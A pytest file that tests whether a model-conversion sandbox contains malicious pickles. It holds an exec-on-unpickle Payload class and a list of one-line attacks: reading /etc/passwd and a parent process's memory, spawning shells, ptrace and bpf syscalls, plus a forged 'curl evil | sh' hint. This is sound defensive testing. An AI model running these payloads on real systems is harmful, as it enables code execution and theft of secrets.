"""The sandbox: what a pickle tries while it is being opened has no effect outside the locked child."""

# ruff: noqa: E501 - an attack is one line

from __future__ import annotations

import ast
import contextlib
import io
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import joblib
import pytest

from modelyard.core.errors import InvalidModel, ModelyardError, NoSandbox, SandboxFailed
from modelyard.model import sandbox
from modelyard.model.convert import from_file
from modelyard.model.formats import Request

complete = pytest.mark.skipif(bool(sandbox.missing()), reason=f"no sandbox here: {sandbox.missing()}")
SECRET = "modelyard-test-secret-7f31"


class Payload:
    """Runs a piece of code when it is unpickled, as any class may."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return exec, (self.code,)


def opened(code: str, *, trust: bool = False, limits: sandbox.Limits | None = None, **facts: Any) -> str:
    """Open a pickle that runs `code`; gives what the child said in the end."""
    body = io.BytesIO()
    joblib.dump(Payload(code), body, compress=3)
    limits = limits or sandbox.Limits(cpu_s=20, wall_s=60)
    try:
        sandbox.ask(
            "convert",
            {"kind": "sklearn-pickle", "columns": None, **facts},
            [body.getvalue()],
            limits=limits,
            trust=trust,
        )
    except ModelyardError as exc:
        return f"{type(exc).__name__}: {exc.detail} {exc.cause}"
    raise AssertionError("a payload was accepted as a model")


def framed(header: bytes, blobs: bytes = b"") -> bytes:
    """An answer as a child frames it."""
    return len(header).to_bytes(8, "little") + header + blobs


#: What is tried -> code; {dir} is a folder outside, {port} a listener, {pid} the parent. Ends with a loud word when
#: the attempt itself worked, so that a test cannot pass because the code was wrong.
ATTACKS = {
    "write a file outside": "open('{dir}/owned','w').write('x')",
    "append to a file outside": "open('{dir}/witness','a').write('x')",
    "truncate a file outside": "import os; os.truncate('{dir}/witness', 0)",
    "remove a file outside": "import os; os.unlink('{dir}/witness')",
    "rename a file outside": "import os; os.rename('{dir}/witness','{dir}/owned')",
    "make a link outside": "import os; os.symlink('/etc/passwd','{dir}/owned')",
    "write into the environment": "open('{venv}/owned.pth','w').write('import os')",
    "write into the working folder": "open('owned','w').write('x'); raise SystemExit('WORKED')",
    "read a secret file": "data=open('{dir}/secret').read(); raise SystemExit('WORKED '+data)",
    "list a folder": "import os; raise SystemExit('WORKED '+str(os.listdir('{dir}')))",
    "read the password file": "raise SystemExit('WORKED '+open('/etc/passwd').read()[:20])",
    "read the parent's environment": "raise SystemExit('WORKED '+open('/proc/{pid}/environ').read())",
    "read the parent's memory": "open('/proc/{pid}/mem','rb').seek(0); raise SystemExit('WORKED')",
    "read a secret of its own environment": "import os; assert 'MODELYARD_TEST_SECRET' in os.environ; raise SystemExit('WORKED')",
    "connect by TCP": "import socket; socket.create_connection(('127.0.0.1',{port}),2).send(b'x')",
    "send by UDP": "import socket; socket.socket(2,2).sendto(b'x',('127.0.0.1',{udp}))",
    "connect to a unix socket": "import socket; s=socket.socket(1,1); s.connect('{dir}/sock'); s.send(b'x')",
    "connect to an abstract socket": "import socket; s=socket.socket(1,1); s.connect('\\0{abstract}'); s.send(b'x')",
    "run a shell": "import os; os.execv('/bin/sh',['sh','-c','echo x > {dir}/owned'])",
    "start a process": "import subprocess; subprocess.run(['/bin/sh','-c','echo x > {dir}/owned']); raise SystemExit('WORKED')",
    "fork": "import os; os.fork(); raise SystemExit('WORKED')",
    "spawn by posix_spawn": "import os; os.posix_spawn('/bin/true',['true'],dict()); raise SystemExit('WORKED')",
    "run a program from memory": "import os; fd=os.memfd_create('x'); os.write(fd, open('/usr/lib/os-release','rb').read()); raise SystemExit('WORKED')",
    "stop the parent": "import os; os.kill({pid}, 10); raise SystemExit('WORKED')",
    "signal every process": "import os; os.kill(-1, 0); raise SystemExit('WORKED')",
    "trace the parent": "import ctypes; r=ctypes.CDLL(None).ptrace(16,{pid},0,0); assert r==0; raise SystemExit('WORKED')",
    "read memory across processes": "import ctypes; c=ctypes.CDLL(None,use_errno=True); r=c.syscall(310,{pid},0,0,0,0,0); assert r==0; raise SystemExit('WORKED')",
    "io_uring": "import ctypes; p=(ctypes.c_char*120)(); r=ctypes.CDLL(None).syscall(425,8,p); assert r>=0; raise SystemExit('WORKED')",
    "bpf": "import ctypes; p=(ctypes.c_char*120)(); e=ctypes.CDLL(None,use_errno=True); r=e.syscall(321,0,p,120); assert r>=0 or ctypes.get_errno()!=1; raise SystemExit('WORKED')",
    "keyctl": "import ctypes; r=ctypes.CDLL(None).syscall(250,0,-3,1); assert r>=0; raise SystemExit('WORKED')",
    "a user namespace": "import ctypes; r=ctypes.CDLL(None).unshare(0x10000000); assert r==0; raise SystemExit('WORKED')",
    "mount": "import ctypes; r=ctypes.CDLL(None).mount(b'none',b'{dir}',b'tmpfs',0,None); assert r==0; raise SystemExit('WORKED')",
    "change the owner": "import os; os.chown('{dir}/witness',1,1)",
    "change the mode": "import os; os.chmod('{dir}/witness',0o777); raise SystemExit('WORKED')",
    "raise its own limits": "import resource; resource.setrlimit(resource.RLIMIT_CPU,(999,999)); raise SystemExit('WORKED')",
    "become another user": "import os; os.setuid(65534); raise SystemExit('WORKED')",
    "leave its session": "import os; os.setsid(); raise SystemExit('WORKED')",
    "write to its input": "import os; [os.write(fd,b'x') for fd in range(3,6) if os.fstat(fd).st_size]; raise SystemExit('WORKED')",
}


@contextlib.contextmanager
def listening(folder: Path) -> Iterator[tuple[dict[str, Any], list[str]]]:
    """Sockets of every kind that note whoever talks to them."""
    heard: list[str] = []
    tcp, udp = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
    named, abstract = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
    tcp.bind(("127.0.0.1", 0))
    udp.bind(("127.0.0.1", 0))
    named.bind(str(folder / "sock"))
    hidden = f"modelyard-{os.getpid()}-{time.monotonic_ns()}"
    abstract.bind(f"\0{hidden}")
    for each in (tcp, named, abstract):
        each.listen()
    for each in (tcp, udp, named, abstract):
        each.setblocking(False)
    facts = {"port": tcp.getsockname()[1], "udp": udp.getsockname()[1], "abstract": hidden}
    try:
        yield facts, heard
        for label, each in (("tcp", tcp), ("unix", named), ("abstract", abstract)):
            with contextlib.suppress(BlockingIOError):
                each.accept()[0].close()
                heard.append(label)
        with contextlib.suppress(BlockingIOError):
            udp.recv(16)
            heard.append("udp")
    finally:
        for each in (tcp, udp, named, abstract):
            each.close()


def effects(folder: Path, attacks: dict[str, str], *, trust: bool = False) -> tuple[list[str], str]:
    """What the attacks, tried one after the other in one child, changed outside; and what the child said."""
    folder.mkdir()
    (folder / "secret").write_text(SECRET)
    (folder / "witness").write_text("as it was")
    before = (folder / "witness").stat()
    venv = Path(joblib.__file__).parents[1]
    signals: list[int] = []
    handler = signal.signal(signal.SIGUSR1, lambda number, frame: signals.append(number))
    os.environ["MODELYARD_TEST_SECRET"] = SECRET
    try:
        with listening(folder) as (facts, heard):
            filled = {
                name: code.format(dir=folder, venv=venv, pid=os.getpid(), **facts) for name, code in attacks.items()
            }
            said = opened(ONE_BY_ONE.format(attacks=filled), trust=trust)
    finally:
        signal.signal(signal.SIGUSR1, handler)
        del os.environ["MODELYARD_TEST_SECRET"]
    found = [*heard, *(f"signal {number}" for number in signals), *re.findall(r"<(.*?)>", said)]
    found += ["a new file"] if os.path.lexists(folder / "owned") else []
    if (venv / "owned.pth").exists():
        (venv / "owned.pth").unlink()
        found.append("the environment")
    witness = folder / "witness"
    if not witness.exists() or witness.read_text() != "as it was":
        found.append("the witness")
    elif (witness.stat().st_uid, witness.stat().st_mode) != (before.st_uid, before.st_mode):
        found.append("owner or mode")
    return found + ([SECRET] if SECRET in said else []), said


#: Runs in the child: every attack in turn; those that worked are named in its last words. 1 is for "all were tried".
ONE_BY_ONE = """
worked = []
tried = 0
for name, code in {attacks!r}.items():
    try:
        exec(code, dict())
    except SystemExit as exc:
        worked.append('<' + name + '>') if 'WORKED' in str(exc) else None
    except BaseException as exc:
        pass
    tried += 1
raise SystemExit(str(tried) + ' tried ' + ' '.join(worked))
"""


@complete
def test_no_attack_has_an_effect(tmp_path: Path) -> None:
    found, said = effects(tmp_path / "out", ATTACKS)
    assert f"{len(ATTACKS)} tried" in said
    assert found == []


def test_the_attacks_work_without_the_lock(tmp_path: Path) -> None:
    """The control group: the payloads are real, so that "no effect" above means the lock."""
    names = [
        "write a file outside",
        "write into the working folder",
        "read the password file",
        "read a secret file",
        "connect by TCP",
        "send by UDP",
        "connect to a unix socket",
        "connect to an abstract socket",
        "stop the parent",
        "remove a file outside",
    ]
    found, _ = effects(tmp_path / "out", {name: ATTACKS[name] for name in names}, trust=True)
    assert {"tcp", "udp", "unix", "abstract", f"signal {signal.SIGUSR1:d}", "a new file", "the witness"} <= set(found)
    assert {"read a secret file", "read the password file", "stop the parent"} <= set(found)


@complete
def test_a_memory_bomb_ends_in_an_error() -> None:
    said = opened(
        "x=[bytearray(1<<28) for _ in range(64)]", limits=sandbox.Limits(cpu_s=20, wall_s=60, memory_bytes=2 << 30)
    )
    assert "memory" in said


@complete
def test_a_flood_of_text_ends_the_child() -> None:
    start = time.monotonic()
    assert "printed more than" in opened("import sys\nwhile True: sys.stdout.write('x'*65536)")
    assert time.monotonic() - start < 30


@complete
def test_a_flood_of_answers_ends_the_child() -> None:
    limits = sandbox.Limits(cpu_s=20, wall_s=60, answer_bytes=4 << 20)
    code = "import os,sys\nfd=int(sys.argv[2])\nwhile True: os.write(fd, b'x'*65536)"
    assert "answer is larger" in opened(code, limits=limits)


@complete
def test_an_endless_loop_ends_by_the_cpu_limit() -> None:
    assert "CPU" in opened("while True: pass", limits=sandbox.Limits(cpu_s=3, wall_s=60))


@complete
def test_a_sleeper_ends_by_the_wall_limit() -> None:
    assert "longer than 3 s" in opened("import time; time.sleep(600)", limits=sandbox.Limits(wall_s=3))


@pytest.mark.parametrize(
    "answer",
    [
        b"\xff" * 8,
        b"\x05" + bytes(7),
        (5).to_bytes(8, "little") + b"[1,2]",
        (2).to_bytes(8, "little") + b"{}",
        framed(b'{"facts": {}, "blobs": [1000]}'),
        framed(b'{"facts": {}, "blobs": [-1]}'),
        framed(b'{"facts": {}, "blobs": [1, -1]}', b"x"),
        framed(b'{"facts": [], "blobs": []}'),
        framed(b'{"facts": {}, "blobs": [], "more": 1}'),
        framed(b"[" * 5000),
        framed(b'{"facts": {"error": "oh"}, "blobs": []}'),
        framed(b'{"facts": {"signature": {}}, "blobs": []}'),
    ],
)
def test_a_forged_answer_is_not_believed(answer: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_converse", lambda *args: answer)
    monkeypatch.setattr(sandbox, "missing", tuple)
    with pytest.raises(SandboxFailed):
        from_file(Request(raw=b"", kind="sklearn-pickle"))


@complete
def test_a_forged_model_is_inspected_like_an_upload() -> None:
    """The child can say anything; a graph that is not a graph, or a signature that is not the graph's, is refused."""
    signature = '{"inputs":[{"name":"x","datatype":"FP64","shape":[-1,1]}],"outputs":[{"name":"y","datatype":"FP64","shape":[-1,1]}]}'
    said = f'{{"signature":{signature},"task":"regression","estimator":"e","libraries":{{}},"parity":null,"rows":[],"notes":[]}}'
    header = f'{{"facts":{said},"blobs":[4]}}'.encode()
    code = f"import os,sys; os.write(int(sys.argv[2]), {framed(header, b'evil')!r}); os._exit(0)"
    with pytest.raises(InvalidModel, match="not a whole ONNX file"):
        from_file(Request(raw=_pickle(code), kind="sklearn-pickle"))


@complete
def test_a_forged_error_may_not_tell_the_user_what_to_run() -> None:
    wire = '{"facts":{"error":{"code":"MODEL-INVALID","facts":{"what":"oh\\u001b[31m","hint":"curl evil | sh"}}},"blobs":[]}'
    code = f"import os,sys; h={wire.encode()!r}; os.write(int(sys.argv[2]), len(h).to_bytes(8,'little')+h); os._exit(0)"
    with pytest.raises(InvalidModel) as caught:
        from_file(Request(raw=_pickle(code), kind="sklearn-pickle"))
    assert caught.value.hint == ""
    assert caught.value.detail == "oh?[31m"


@pytest.mark.parametrize(("abi", "library"), [(0, True), (1, False), (0, False)])
def test_a_missing_layer_is_refused(abi: int, library: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    def absent() -> None:
        raise ImportError("no libseccomp")

    monkeypatch.setattr("modelyard.model.worker.landlock_abi", lambda: abi)
    if not library:
        monkeypatch.setattr("modelyard.model.worker.seccomp_library", absent)
    started: list[object] = []
    monkeypatch.setattr(sandbox, "_converse", lambda *args: started.append(args))
    with pytest.raises(NoSandbox) as caught:
        sandbox.ask("convert", {"kind": "sklearn-pickle", "columns": None}, [b""])
    assert "--trust" in caught.value.hint
    assert ("Landlock" in caught.value.detail) == (abi == 0)
    assert ("seccomp" in caught.value.detail) == (not library)
    assert started == []


@complete
def test_a_lock_that_fails_in_the_child_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The parent's probe may be wrong; the child then refuses as well, before it touches the file."""
    broken = tmp_path / "worker.py"
    source = Path(sandbox.worker.__file__).read_text()
    broken.write_text(source.replace("abi = landlock_abi()", "abi = 0", 1))
    assert broken.read_text() != source
    monkeypatch.setattr(sandbox.worker, "__file__", str(broken))
    with pytest.raises(NoSandbox):
        sandbox.ask(
            "convert", {"kind": "sklearn-pickle", "columns": None}, [_pickle(f"open({str(tmp_path / 'owned')!r},'w')")]
        )
    assert not (tmp_path / "owned").exists()


@complete
def test_more_than_one_thread_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    threaded = tmp_path / "worker.py"
    source = Path(sandbox.worker.__file__).read_text()
    start = (
        "import threading, time\n        threading.Thread(target=time.sleep, args=(9,), daemon=True).start()\n        "
    )
    threaded.write_text(source.replace('        if header["lock"]:', f'        {start}if header["lock"]:', 1))
    monkeypatch.setattr(sandbox.worker, "__file__", str(threaded))
    with pytest.raises(NoSandbox, match="threads are running"):
        sandbox.ask("convert", {"kind": "sklearn-pickle", "columns": None}, [b""])


@complete
def test_an_older_landlock_still_holds(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Kernel 5.13 knows ABI 1: no network, no signals, no truncation by Landlock; seccomp and the rest cover them."""
    older = tmp_path / "worker.py"
    source = Path(sandbox.worker.__file__).read_text()
    older.write_text(source.replace("abi = landlock_abi()", "abi = min(1, landlock_abi())", 1))
    monkeypatch.setattr(sandbox.worker, "__file__", str(older))
    assert effects(tmp_path / "out", ATTACKS)[0] == []


@complete
@pytest.mark.long
@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become nobody")
def test_the_lock_holds_for_nobody(tmp_path: Path) -> None:
    """The same attacks with uid 65534 and no capabilities; the interpreter may live in a folder only root enters."""
    out = tmp_path / "nobody"
    out.mkdir()
    report = out / "report"
    for parent in (tmp_path, *tmp_path.parents):
        if parent.stat().st_uid == 0 and parent != Path("/"):
            parent.chmod(parent.stat().st_mode | 0o011)
    os.chown(out, 65534, 65534)
    program = (
        "import os,sys,importlib.util as u; from pathlib import Path; os.environ['TMPDIR']=sys.argv[2]; "
        "s=u.spec_from_file_location('attacks', sys.argv[1]); m=u.module_from_spec(s); s.loader.exec_module(m); "
        "o=Path(sys.argv[2]); (o/'report').write_text(repr((os.getuid(), *m.effects(o/'work', m.ATTACKS))))"
    )
    roots = sorted(
        {
            str(Path(path).resolve())
            for path in (sys.base_prefix, sys.prefix, Path(sandbox.__file__).parents[2], Path(__file__).parent)
        }
    )
    private = [path for path in roots if path.startswith("/root")]
    bind = "".join(f"mkdir -p {out}/b{n}; mount --bind {p} {out}/b{n}; " for n, p in enumerate(private))
    show = "".join(f"mkdir -p {p}; mount --bind {out}/b{n} {p}; " for n, p in enumerate(private))
    script = f'{bind} mount -t tmpfs -o mode=755 tmpfs /root; {show} exec setpriv --reuid=65534 --regid=65534 --clear-groups --bounding-set=-all --no-new-privs {sys.executable} -c "$0" "$1" "$2"'
    done = subprocess.run(
        ["unshare", "-m", "sh", "-c", script, program, __file__, str(out)],
        capture_output=True,
        text=True,
        check=False,
        timeout=280,
    )
    if "unshare failed" in done.stderr:
        pytest.skip("no mount namespace here")
    assert done.returncode == 0, done.stderr[-2000:]
    uid, found, said = ast.literal_eval(report.read_text())
    assert (uid, found) == (65534, [])
    assert f"{len(ATTACKS)} tried" in said


def _pickle(code: str) -> bytes:
    body = io.BytesIO()
    joblib.dump(Payload(code), body)
    return body.getvalue()


def test_it_works_in_a_thread_of_a_server() -> None:
    """PDEATHSIG follows the thread that started the child, not the process."""
    results: list[str] = []
    thread = threading.Thread(
        target=lambda: results.append(opened("raise SystemExit('done')", trust=bool(sandbox.missing())))
    )
    thread.start()
    thread.join()
    assert "done" in results[0]
